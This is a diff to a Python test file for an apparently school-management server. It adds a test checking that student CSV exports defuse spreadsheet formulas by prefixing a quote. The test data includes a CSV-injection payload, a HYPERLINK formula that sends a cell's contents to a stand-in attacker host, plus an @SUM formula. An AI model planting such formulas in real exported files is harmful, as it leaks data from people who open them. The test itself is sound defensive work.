@@ -28,6 +28,10 @@ def students_csv(rows, tag):
     return "\r\n".join(lines) + "\r\n"
 
 
+def csv_field(value):
+    return '"' + value.replace('"', '""') + '"'
+
+
 class TestTransfers(ServerTestCase):
     SERVER_ENV = {"ERP_SERVE_WORKERS": "2", "ERP_WORKER_POLL_MS": "20", "ERP_QUEUE_BACKOFF_MS": "50"}
 
@@ -132,6 +136,24 @@ class TestTransfers(ServerTestCase):
         for role in ("teacher", "parent", "student"):
             self.A.client(role).get(f"{FILES}/{fid}/content", expect=404)
         self.B.client("admin").get(f"{FILES}/{fid}/content", expect=404)
+
+    def test_values_a_spreadsheet_would_run_are_exported_as_text_and_import_again(self):
+        address = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+        text = (HEADER + ",address,phone\r\n"
+                + f"FRM-1,Ima,Porter,2014-03-01,Gia,Porter,g.frm@example.org,{csv_field(address)},+91 98765 43210\r\n"
+                + "FRM-2,Ida,Porter,2014-03-02,Gus,Porter,g2.frm@example.org,@SUM(1),\r\n")
+        self.assertTrue(self.finished(self.admin, self.upload("students", text))["result"]["imported"])
+        job = self.finished(self.admin, self.admin.get(f"{EXPORTS}/students"))
+        body = self.admin.get(f"{FILES}/{job['result']['fileId']}/content", expect=200).body.decode()
+        rows = {r["admissionNo"]: r for r in csv.DictReader(io.StringIO(body))}
+        self.assertEqual(rows["FRM-1"]["address"], "'" + address)
+        self.assertEqual(rows["FRM-1"]["phone"], "+91 98765 43210")  # a phone number stays as it is
+        self.assertEqual(rows["FRM-2"]["address"], "'@SUM(1)")
+        # the export imports again unchanged, and the values in the school are the ones typed
+        again = self.finished(self.admin, self.upload("students", body))["result"]
+        self.assertEqual((again["imported"], again["created"], again["updated"]), (True, 0, 0), again)
+        found = {s["admissionNo"]: s for s in self.admin.get(f"{STUDENTS}?limit=500", expect=200).json["items"]}
+        self.assertEqual(self.admin.get(f"{STUDENTS}/{found['FRM-1']['id']}", expect=200).json["address"], address)
 
     def test_the_same_export_asked_twice_at_once_is_one_job(self):
         a = self.admin.get(f"{EXPORTS}/guardians", expect=202).json["jobId"]
